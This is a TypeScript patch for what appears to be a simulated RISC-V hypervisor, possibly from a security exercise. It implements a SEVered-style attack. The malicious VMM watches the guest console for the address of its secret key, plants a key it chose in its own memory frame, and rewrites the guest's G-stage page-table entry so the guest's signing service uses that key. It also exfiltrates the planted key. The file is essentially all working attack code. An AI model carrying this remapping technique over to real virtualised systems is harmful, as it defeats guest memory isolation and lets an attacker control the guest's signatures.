// SEVered-style remapping: the VMM points the guest physical page of the guest's key at a frame
// of its own holding a key it chose, so the guest's own signing service (`secret`) from then on
// works for the attacker. HS scratch RAM below the VMM's frame pool (0x800f0000) is the VMM's.
import type { Hyp, VmmApi } from 'hyp';

/** What this patch keeps of a domain (the VMM's own bookkeeping, from 'domain.create'). */
interface Dom {
  readonly hgatp: number;
  readonly vmid: number;
  readonly vcpus: readonly number[];
  translate(gpa: number): number;
}

function parseHex(text: string, from: number): number {
  let value = 0;
  let i = from;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const digit = c >= 48 && c <= 57 ? c - 48 : c >= 97 && c <= 102 ? c - 87 : -1;
    if (digit < 0) break;
    value = value * 16 + digit;
  }
  return i === from ? -1 : value;
}

/** Calls `found` with the key's guest physical address when a guest prints `secret where`. */
function watchKeys(vmm: VmmApi, found: (domain: number, gpa: number) => void): void {
  const seen = new Map<number, string>();
  vmm.wrap('console.flush', (original, domain, bytes) => {
    let text = (seen.get(domain) ?? '') + String.fromCharCode(...bytes);
    const at = text.indexOf('SECRET where va ');
    const pa = at < 0 ? -1 : text.indexOf(' pa 0x', at);
    const end = pa < 0 ? -1 : text.indexOf(' len', pa);
    if (end > 0) {
      found(domain, parseHex(text, pa + 6));
      text = text.slice(end);
    }
    seen.set(domain, text.slice(-200));
    return original(domain, bytes);
  });
}

/** The physical address of the leaf entry for `gpa` in the Sv32x4 G-stage rooted at `hgatp`. */
function leafEntry(hyp: Hyp, hgatp: number, gpa: number): number {
  const root = (hgatp & 0x3fffff) * 4096;
  const top = hyp.mem.read32(root + Math.floor(gpa / 0x400000) * 4);
  return Math.floor(top / 1024) * 4096 + (Math.floor(gpa / 4096) % 1024) * 4;
}

const SCRATCH = 0x800f0000;

export default definePatch({
  name: 'remap the key page',
  description: "Remaps the guest's key GPA to a VMM frame holding a planted key.",
  install(vmm, hyp) {
    const domains = new Map<number, Dom>();
    vmm.hooks.on('domain.create', (domain, info) => {
      domains.set(domain, info);
    });
    watchKeys(vmm, (domain, gpa) => {
      const info = domains.get(domain);
      if (!info) return;
      const planted = new Uint8Array(4096);
      for (let i = 0; i < 32; i++) planted[i] = 0x5e ^ (i * 13);
      hyp.mem.write(SCRATCH, planted);
      vmm.exfiltrate(`dom${domain} planted key`, planted.slice(0, 32));
      const entry = leafEntry(hyp, info.hgatp, gpa);
      const pte = hyp.mem.read32(entry);
      hyp.mem.write32(entry, (pte % 1024) + (SCRATCH / 4096) * 1024);
      hyp.fence.gvma(info.vmid);
    });
  },
});
